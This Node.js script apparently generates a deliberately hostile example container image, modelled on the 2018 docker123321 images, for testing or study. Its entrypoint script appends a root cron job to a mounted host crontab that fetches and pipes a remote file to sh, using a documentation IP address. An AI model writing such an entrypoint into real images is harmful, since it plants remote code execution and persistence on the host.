// node scripts/make-hostile-example.mjs [FILE]: writes an image that would do what those of docker123321 did in 2018, byte for
// byte the same every time: when it starts, it writes a job into the crontab of the host, if that is mounted. It is inert all
// the same: its shell and its wget hold no code, and 192.0.2.10 is an address that RFC 5737 reserves for documentation.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { base, database, filesOf, image, links } from './example/image.mjs';
import { projectRoot } from './project.mjs';

const output = process.argv[2] ?? join(projectRoot, 'examples', 'hostile-cron.tar');

const START = `#!/bin/sh
# Part of an example.
echo '* * * * * root wget -q -O - http://192.0.2.10:8220/logo3.jpg | sh' >> /mnt/etc/crontab
exec "$@"
`;

const layers = [
  {
    createdBy: 'ADD harbor-base-x86_64.tar.gz / # buildkit',
    files: {
      ...filesOf(base),
      ...links,
      'etc/group': 'root:x:0:root\nnobody:x:65534:\n',
      'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/sbin/nologin\n',
      'lib/apk/db/installed': database(base),
    },
  },
  {
    createdBy: 'COPY start.sh /usr/local/bin/start.sh # buildkit',
    files: { 'usr/local/bin/start.sh': { mode: 0o755, body: START } },
  },
];

const empty = [
  { position: 2, createdBy: 'ENTRYPOINT ["/usr/local/bin/start.sh"]' },
  { position: 2, createdBy: 'CMD ["httpd" "-f"]' },
];

const config = {
  Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'],
  Entrypoint: ['/usr/local/bin/start.sh'],
  Cmd: ['httpd', '-f'],
};

writeFileSync(output, image({ name: 'tidewaiter.example/tomcat:8', config, layers, empty }));
